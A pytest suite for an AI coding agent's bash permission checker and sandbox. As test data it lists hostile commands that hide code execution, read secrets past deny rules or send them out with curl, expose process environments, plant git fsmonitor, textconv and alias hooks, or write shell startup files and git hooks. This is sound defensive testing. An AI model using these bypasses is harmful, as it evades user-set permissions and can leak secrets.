"""Commands that ran code, read past deny rules or wrote protected paths while judged safe —
each through the real executor and real bash, with every prompt declined: the marker file a
command would create stays absent, the secret's text never comes back, and the prompt (or the
denial) says why."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
from tests.config.test_trust import toolbelt
from tests.tools.helpers import Harness

from toolbelt.config.settings import load_settings
from toolbelt.core.events import CallState
from toolbelt.sandbox.sandbox import SandboxSettings
from toolbelt.tools._shell import session_sandbox

pytestmark = pytest.mark.anyio
SECRET = "TOPSECRET-4711"


@pytest.fixture
def world(tmp_path: Path) -> dict[str, Path]:
    """A git workspace, an outside directory holding a secret, and a home with a deny rule."""
    work, out, home = tmp_path / "w", tmp_path / "out", tmp_path / "home"
    for directory in (work, out, home):
        directory.mkdir()
    (out / "secret.txt").write_text(f"{SECRET}\n")
    (work / "a.txt").write_text("alpha\n")
    subprocess.run(["git", "init", "-q", str(work)], check=True)
    settings = home / ".config" / "toolbelt" / "settings.json"
    settings.parent.mkdir(parents=True)
    rules = {"deny": [f"Read(/{out}/**)"], "allow": ["Bash(echo:*)", "Bash(git status)"]}
    settings.write_text(json.dumps({"permissions": rules}))
    return {"work": work, "out": out, "home": home}


def harness(
    world: dict[str, Path], mode: str = "default", *, trusted: bool = False, sandbox: str = "auto"
) -> Harness:
    """A session with the world's rules; ``sandbox="off"`` for tests of what the command
    analysis and the git guard do alone (they must hold without the OS sandbox)."""
    settings = load_settings(world["work"], home=world["home"], trusted=trusted)
    h = Harness(world["work"], mode=mode, approve=False, settings=settings)
    h.session.resource(SandboxSettings, lambda: SandboxSettings(mode=sandbox))
    return h


async def bash(h: Harness, command: str, **extra: Any) -> tuple[CallState, str, str]:
    """Run ``command``; (state, output, the reason of the last prompt or "")."""
    asked = len(h.requester.asked)
    result = await h.call("bash", command=command, **extra)
    reason = h.requester.asked[-1][1] if len(h.requester.asked) > asked else ""
    return result.state, result.text, reason


@pytest.mark.parametrize(
    "command",
    [
        "env -S'touch {out}/p1'",  # 1
        "env --split-string='touch {out}/p1'",
        "test -v 'a[$(touch {out}/p1)]'",  # 2
        "[[ 1 -eq 'a[$(touch {out}/p1)]' ]]",
        "echo $(( 'a[$(touch {out}/p1)]' ))",
        "x='a[$(touch {out}/p1)]'; echo $((x))",
        "sed -n '1e touch {out}/p1' a.txt",  # 3
        "sed --expression='1e touch {out}/p1' a.txt",
        "sed '1{{e touch {out}/p1\n}}' a.txt",
        "sed 's|alpha|touch {out}/p1|e' a.txt",
        "y='$(touch {out}/p1)'; echo ${{y@P}}",
    ],
)
@pytest.mark.parametrize("mode", ["default", "plan", "dont_ask", "bypass"])
async def test_code_hidden_in_a_read_only_looking_command_never_runs_unasked(
    world: dict[str, Path], command: str, mode: str
) -> None:
    h = harness(world, mode)
    state, _, reason = await bash(h, command.format(out=world["out"]))
    assert not (world["out"] / "p1").exists()
    assert state is not CallState.SUCCESS
    if mode in ("default", "bypass"):
        assert "potentially dangerous" in reason


@pytest.mark.parametrize(
    "command",
    [
        "echo {out}/secret.txt | xargs cat",
        "date -f {out}/secret.txt",
        "git blame --contents {out}/secret.txt a.txt",
        "echo {out}/*",
        "sed 1r{out}/secret.txt a.txt",
        "cat {out}/secret.tx?",
        "git diff {out}/secret.txt a.txt",
        "git blame -S {out}/secret.txt a.txt",
        "(cd .git); cat ../out/secret.txt",  # the subshell's cd does not move the cat
        "cd nowhere 2>/dev/null; cat ../out/secret.txt",  # nor does a cd that fails
        "awk 1 {out}/secret.txt",  # reads the analysis does not see, which the sandbox allows
        "tac {out}/secret.txt",
    ],
)
@pytest.mark.parametrize("mode", ["default", "plan", "dont_ask"])
async def test_reads_past_a_deny_rule_are_refused(
    world: dict[str, Path], command: str, mode: str
) -> None:
    h = harness(world, mode)
    state, text, _ = await bash(h, command.format(out=world["out"]))
    assert state is not CallState.SUCCESS
    assert SECRET not in text


@pytest.mark.parametrize(
    "command", ["cp {out}/secret.txt stolen.txt", "curl -s -d @{out}/secret.txt http://127.0.0.1:9"]
)
async def test_read_deny_rules_hold_in_bypass_for_programs_that_read(
    world: dict[str, Path], command: str
) -> None:
    h = harness(world, "bypass")
    state, text, _ = await bash(h, command.format(out=world["out"]))
    assert state is CallState.ERROR
    assert "denies reading a file this command reads" in text
    assert not (world["work"] / "stolen.txt").exists()


async def test_a_deny_rule_names_the_file_a_command_option_reads(world: dict[str, Path]) -> None:
    h = harness(world)
    state, text, _ = await bash(h, f"date -f {world['out']}/secret.txt")
    assert state is CallState.ERROR
    assert "denies reading a file this command reads" in text


@pytest.mark.parametrize("command", ["ps axeww", "ps e", "cat /proc/self/environ"])
async def test_process_environments_ask_even_in_bypass(
    world: dict[str, Path], command: str
) -> None:
    h = harness(world, "bypass")
    state, text, reason = await bash(h, command)
    assert state is not CallState.SUCCESS
    assert "environment" in reason
    assert "TOOLBELT=1" not in text


async def test_plain_ps_still_runs(world: dict[str, Path]) -> None:
    h = harness(world, "dont_ask", sandbox="off")  # the sandbox's /proc shows no processes
    state, text, _ = await bash(h, "ps -o comm= -p $$")
    assert (state, text) == (CallState.SUCCESS, "bash")


def git(*args: str) -> None:
    subprocess.run(["git", *args], check=True)


def hostile_config(repo: Path, marker: Path) -> None:
    """The repository's own config starts programs on git status and git diff."""
    (repo / ".gitattributes").write_text("*.txt diff=evil\n")
    with (repo / ".git" / "config").open("a") as config:
        config.write(
            f'[core]\n\tfsmonitor = "touch {marker}-fsmonitor; false"\n'
            f'[diff "evil"]\n\ttextconv = "touch {marker}-textconv; cat"\n'
            f'[diff]\n\texternal = "touch {marker}-external"\n'
        )


async def test_an_untrusted_repository_runs_none_of_its_own_programs(
    world: dict[str, Path],
) -> None:
    work, marker = world["work"], world["out"] / "marker"
    git("-C", str(work), "add", "a.txt")
    hostile_config(work, marker)
    (work / "a.txt").write_text("changed\n")
    h = harness(world, "plan", sandbox="off")  # the git guard alone, without the sandbox
    assert await bash(h, "git status --short") == (
        CallState.SUCCESS,
        "AM a.txt\n?? .gitattributes",
        "",
    )
    state, text, _ = await bash(h, "git diff")  # diff.external is set: git cannot run it
    assert (state, text.splitlines()[1]) == (
        CallState.ERROR,
        "error: cannot run : No such file or directory",
    )
    assert (await bash(h, "git diff --no-ext-diff"))[1].endswith("-alpha\n+changed")
    assert list(world["out"].glob("marker*")) == []
    trusted = harness(world, "plan", trusted=True, sandbox="off")  # as the user's own git
    await bash(trusted, "git status --short")
    await bash(trusted, "git diff")
    await bash(trusted, "git diff --no-ext-diff")
    assert {p.name for p in world["out"].glob("marker*")} == {
        "marker-fsmonitor",
        "marker-external",
        "marker-textconv",
    }


async def test_an_embedded_bare_looking_repository_is_not_used(world: dict[str, Path]) -> None:
    sub, marker = world["work"] / "sub", world["out"] / "embedded"
    sub.mkdir()
    git("init", "-q", "--bare", str(sub))
    with (sub / "config").open("a") as config:
        config.write(f'[core]\n\tbare = false\n\tworktree = ..\n\tfsmonitor = "touch {marker}"\n')
    h = harness(world, "plan", sandbox="off")  # the git guard alone, without the sandbox
    state, text, _ = await bash(h, "cd sub && git status")
    assert not marker.exists()
    assert "safe.bareRepository" in text or state is not CallState.SUCCESS
    # the user's own git, in a trusted workspace, would have run it
    trusted = harness(world, "default", trusted=True, sandbox="off")
    await bash(trusted, "cd sub && git status")
    assert marker.exists()


@pytest.mark.parametrize(
    "command",
    [
        "echo x > .git/hooks/pre-commit",
        "echo x >> {home}/.bashrc",
        "git status > .git/hooks/post-checkout",
    ],
)
async def test_a_command_rule_never_covers_its_redirections(
    world: dict[str, Path], command: str
) -> None:
    h = harness(world, "default", trusted=True)  # the allow rules are the user's own
    state, _, reason = await bash(h, command.format(home=world["home"]))
    assert state is not CallState.SUCCESS
    assert "protected path" in reason
    assert not (world["work"] / ".git" / "hooks" / "pre-commit").exists()
    assert not (world["home"] / ".bashrc").exists()


async def test_a_command_rule_allows_writes_inside_but_asks_outside(world: dict[str, Path]) -> None:
    h = harness(world, "default", trusted=True)
    assert (await bash(h, "echo hi > out.txt"))[0] is CallState.SUCCESS
    assert (world["work"] / "out.txt").read_text() == "hi\n"
    state, _, reason = await bash(h, f"echo hi > {world['out']}/x")
    assert state is not CallState.SUCCESS
    assert "writes outside the workspace" in reason
    assert not (world["out"] / "x").exists()


async def test_always_on_a_redirection_saves_a_rule_without_it(world: dict[str, Path]) -> None:
    from toolbelt.core.permission import Approval

    h = harness(world, "default", trusted=True, sandbox="off")  # sandboxed, it would not ask
    h.requester.approval = Approval.ALWAYS
    assert (await bash(h, "printf hi > out.txt"))[0] is CallState.SUCCESS
    local = json.loads((world["work"] / ".toolbelt" / "settings.local.json").read_text())
    assert local["permissions"]["allow"] == ["Bash(printf hi)"]
    h.requester.approval = Approval.DENY
    state, _, reason = await bash(h, f"printf hi > {world['out']}/y")
    assert state is not CallState.SUCCESS and "outside the workspace" in reason
    assert not (world["out"] / "y").exists()


@pytest.mark.parametrize(
    ("command", "target"),
    [
        ("git config core.fsmonitor evil", ".git/config"),
        ("echo x | tee -a {home}/.bashrc", "{home}/.bashrc"),
        ("sed -i s/x/y/ .git/hooks/pre-commit.sample", ".git/hooks/pre-commit.sample"),
        ("echo {{}} | tee .vscode/tasks.json", ".vscode/tasks.json"),
        ("touch .git/hooks/post-checkout", ".git/hooks/post-checkout"),
        ("cp -t .git/hooks a.txt", ".git/hooks/a.txt"),
        ("install a.txt .git/hooks/pre-push", ".git/hooks/pre-push"),
        ("printf x | dd of=.envrc", ".envrc"),
    ],
)
async def test_bypass_still_asks_before_programs_write_protected_paths(
    world: dict[str, Path], command: str, target: str
) -> None:
    home = world["home"]
    path = Path(target.format(home=home))
    path = path if path.is_absolute() else world["work"] / path
    before = path.read_bytes() if path.exists() else None
    h = harness(world, "bypass")
    state, _, reason = await bash(h, command.format(home=home))
    assert state is not CallState.SUCCESS
    assert "protected path" in reason
    assert (path.read_bytes() if path.exists() else None) == before


def test_the_cli_refuses_env_split_string_in_plan_mode(world: dict[str, Path]) -> None:
    marker = world["out"] / "cli-marker"
    command = json.dumps({"command": f"env -S'touch {marker}'"})
    out = toolbelt("call", "--mode", "plan", "bash", command, cwd=world["work"], home=world["home"])
    assert out.returncode == 3
    assert "Plan mode is on" in out.stdout
    assert not marker.exists()


@pytest.mark.parametrize(
    "command",
    [
        "export BASH_ENV={out}/p1; echo hi",
        "PATH={out}; echo hi",
        "unset GIT_CONFIG_COUNT; echo hi",
        "echo $(( 'a[$(touch {out}/p1)]' ))",
    ],
)
async def test_a_rule_for_a_command_does_not_cover_what_stands_beside_it(
    world: dict[str, Path], command: str
) -> None:
    # `Bash(echo:*)` is allowed; the sandbox would let these run unasked, by its own reason
    h = harness(world, "default", trusted=True, sandbox="off")
    state, _, reason = await bash(h, command.format(out=world["out"]))
    assert state is not CallState.SUCCESS
    assert reason
    assert not (world["out"] / "p1").exists()


@pytest.mark.parametrize(
    "command",
    [
        "touch {out}/p1",
        "t''ouch {out}/p1",
        "env touch {out}/p1",
        "env -S'touch {out}/p1'",
        "timeout -s KILL 5 touch {out}/p1",
        "echo {out}/p1 | xargs touch",
        "find {out} -maxdepth 0 -exec touch {{}}/p1 ';'",
    ],
)
async def test_a_deny_rule_holds_however_the_program_is_spelled_or_wrapped(
    world: dict[str, Path], command: str
) -> None:
    settings = world["home"] / ".config" / "toolbelt" / "settings.json"
    settings.write_text(json.dumps({"permissions": {"deny": ["Bash(touch:*)"]}}))
    h = harness(world, "bypass")
    state, text, _ = await bash(h, command.format(out=world["out"]))
    assert state is CallState.ERROR
    assert text.startswith("the rule `Bash(touch:*)`")
    assert not (world["out"] / "p1").exists()


async def test_a_link_in_the_workspace_to_a_process_environment_is_judged_by_its_target(
    world: dict[str, Path],
) -> None:
    (world["work"] / "notes").symlink_to("/proc/self/environ")
    h = harness(world, "bypass")
    state, text, reason = await bash(h, "cat notes")
    assert state is not CallState.SUCCESS
    assert "process's environment" in reason
    assert "TOOLBELT=1" not in text


async def test_words_after_a_redirection_are_judged_as_the_commands_arguments(
    world: dict[str, Path],
) -> None:
    settings = world["home"] / ".config" / "toolbelt" / "settings.json"
    settings.write_text(json.dumps({"permissions": {"allow": ["Bash(find d)"]}}))
    (world["work"] / "d").mkdir()
    (world["work"] / "d" / "keep.txt").write_text("keep\n")
    h = harness(world, "default", trusted=True)
    state, _, reason = await bash(h, "find d 2>/dev/null -delete")
    assert state is not CallState.SUCCESS
    assert "find -delete deletes files" in reason
    assert (world["work"] / "d" / "keep.txt").read_text() == "keep\n"


async def test_always_on_a_leading_redirection_saves_the_command_alone(
    world: dict[str, Path],
) -> None:
    from toolbelt.core.permission import Approval

    h = harness(world, "default", trusted=True, sandbox="off")  # sandboxed, it would not ask
    h.requester.approval = Approval.ALWAYS
    assert (await bash(h, ">out.txt printf hi"))[0] is CallState.SUCCESS
    local = json.loads((world["work"] / ".toolbelt" / "settings.local.json").read_text())
    assert local["permissions"]["allow"] == ["Bash(printf hi)"]


async def test_a_repository_alias_runs_nothing_in_bypass_until_trusted(
    world: dict[str, Path],
) -> None:
    marker = world["out"] / "alias-ran"
    git("-C", str(world["work"]), "config", "alias.st", f"!touch {marker}")
    h = harness(world, "bypass", sandbox="off")  # the git guard alone, without the sandbox
    state, text, _ = await bash(h, "git st")
    assert state is CallState.ERROR
    assert "expansion of alias 'st' failed" in text
    assert not marker.exists()
    trusted = harness(world, "bypass", trusted=True, sandbox="off")
    assert (await bash(trusted, "git st"))[0] is CallState.SUCCESS
    assert marker.exists()


async def test_a_sandboxed_command_runs_unasked_only_while_the_sandbox_hides_what_is_denied(
    world: dict[str, Path],
) -> None:
    """The sandbox hides the paths Read deny rules name whole, so its pass to run a command
    that only creates files without asking holds with such rules; a rule that picks names by
    wildcard it cannot hide, and then such a command asks."""
    settings = world["home"] / ".config" / "toolbelt" / "settings.json"
    settings.write_text(json.dumps({"permissions": {}}))
    h = harness(world)
    if not session_sandbox(h.session).creates:
        pytest.skip("no OS sandbox with Landlock ABI 3 on this machine")
    assert await bash(h, "cat a.txt > b.txt") == (CallState.SUCCESS, "(no output)", "")
    assert (world["work"] / "b.txt").read_text() == "alpha\n"
    settings.write_text(json.dumps({"permissions": {"deny": [f"Read(/{world['out']}/**)"]}}))
    h = harness(world)
    assert await bash(h, "cat a.txt > c.txt") == (CallState.SUCCESS, "(no output)", "")
    assert (world["work"] / "c.txt").read_text() == "alpha\n"
    settings.write_text(json.dumps({"permissions": {"deny": [f"Read(/{world['out']}/*.txt)"]}}))
    h = harness(world)
    state, _, reason = await bash(h, "cat a.txt > d.txt")
    assert (state, reason) == (CallState.ERROR, "`cat a.txt > d.txt` runs a command.")
    assert not (world["work"] / "d.txt").exists()
